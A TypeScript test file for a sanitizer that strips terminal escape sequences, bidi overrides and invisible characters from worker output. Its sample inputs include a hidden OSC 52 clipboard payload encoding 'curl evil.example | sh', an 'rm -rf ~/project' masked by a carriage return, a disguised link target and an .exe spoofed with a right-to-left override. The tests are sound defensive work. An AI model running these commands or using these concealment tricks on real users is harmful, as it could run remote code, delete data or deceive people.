import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { SAFE_LINE_MAX, terminalSafe, terminalSafeLine } from "./terminal-safe.ts";

const ESC = "\u001b";
const BEL = "\u0007";

/** What a terminal could act on, or that hides or reorders text: none may be left. */
const UNSAFE = /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029]/u;

describe("text a worker wrote, made safe for the user's terminal", () => {
  it("removes an OSC 52 clipboard write whole, payload included, with either terminator or none", () => {
    const payload = Buffer.from("curl evil.example | sh").toString("base64");
    expect(terminalSafe(`done${ESC}]52;c;${payload}${BEL} ok`)).toBe("done ok");
    expect(terminalSafe(`done${ESC}]52;c;${payload}${ESC}\\ ok`)).toBe("done ok");
    expect(terminalSafe(`done\u009d52;c;${payload}\u009c ok`)).toBe("done ok");
    // Unterminated: a terminal would swallow what follows; so does the sanitizer, rather than print the payload.
    expect(terminalSafe(`done${ESC}]52;c;${payload}`)).toBe("done");
  });

  it("keeps a hyperlink's words but not the hidden target (OSC 8)", () => {
    expect(terminalSafe(`see ${ESC}]8;;https://evil.example${ESC}\\the docs${ESC}]8;;${ESC}\\ now`)).toBe("see the docs now");
  });

  it("removes CSI cursor moves, erasures and colours, 7-bit and 8-bit", () => {
    expect(terminalSafe(`tests pass${ESC}[1A${ESC}[2K${ESC}[31mred${ESC}[0m`)).toBe("tests passred");
    expect(terminalSafe(`a\u009b2Jb`)).toBe("ab");
    expect(terminalSafe(`${ESC}[?1049h${ESC}[38;5;196mx`)).toBe("x");
  });

  it("shows what a carriage return or backspaces would have drawn over", () => {
    expect(terminalSafe("rm -rf ~/project\rall tests passed")).toBe("rm -rf ~/project all tests passed");
    expect(terminalSafe("evil\b\b\b\bgood")).toBe("evilgood");
  });

  it("removes bidi overrides and invisible characters, keeping the text in the order it is stored", () => {
    expect(terminalSafe("file\u202Etxt.exe\u202C")).toBe("filetxt.exe");
    expect(terminalSafe("a\u2066b\u2069c\u200Bd\uFEFF")).toBe("abcd");
    // "Tag" characters: invisible, yet a model reads them.
    expect(terminalSafe("ok\u{E0069}\u{E0067}\u{E006E}")).toBe("ok");
  });

  it("removes other escapes, C0 and C1 controls, DEL and lone surrogate halves, and keeps ordinary text as it is", () => {
    expect(terminalSafe(`${ESC}c${ESC}(Bx\u0000y\u007fz\u0085w\u0090q${BEL}`)).toBe("xyz w");
    expect(terminalSafe("a\uD800b")).toBe("ab");
    expect(terminalSafe("Prüfung 🎉 — ça marche, 漢字")).toBe("Prüfung 🎉 — ça marche, 漢字");
  });

  it("leaves nothing a terminal acts on, whatever the text", () => {
    const hostile = fc.string({ unit: fc.constantFrom(ESC, "[", "]", "\\", BEL, "\r", "\n", "\b", "\u009b", "\u009d", "\u009c", "\u202E", "52;c;", "2J", "m", "a", "é", "\uD83D", "\uDE00"), maxLength: 300 });
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: "binary", maxLength: 300 }), hostile), (text) => {
        expect(terminalSafe(text)).not.toMatch(UNSAFE);
        expect(terminalSafeLine(text)).not.toMatch(UNSAFE);
      }),
    );
  });

  it("makes one trimmed line of at most 200 characters, cut with an ellipsis, never inside a character", () => {
    expect(terminalSafeLine("  first\n\n  second\tthird  ")).toBe("first second third");
    const long = "🎉".repeat(SAFE_LINE_MAX + 10);
    const line = terminalSafeLine(long);
    expect(Array.from(line)).toHaveLength(SAFE_LINE_MAX);
    expect(line.endsWith("🎉…")).toBe(true);
    expect(terminalSafeLine("x".repeat(SAFE_LINE_MAX))).toBe("x".repeat(SAFE_LINE_MAX));
  });
});
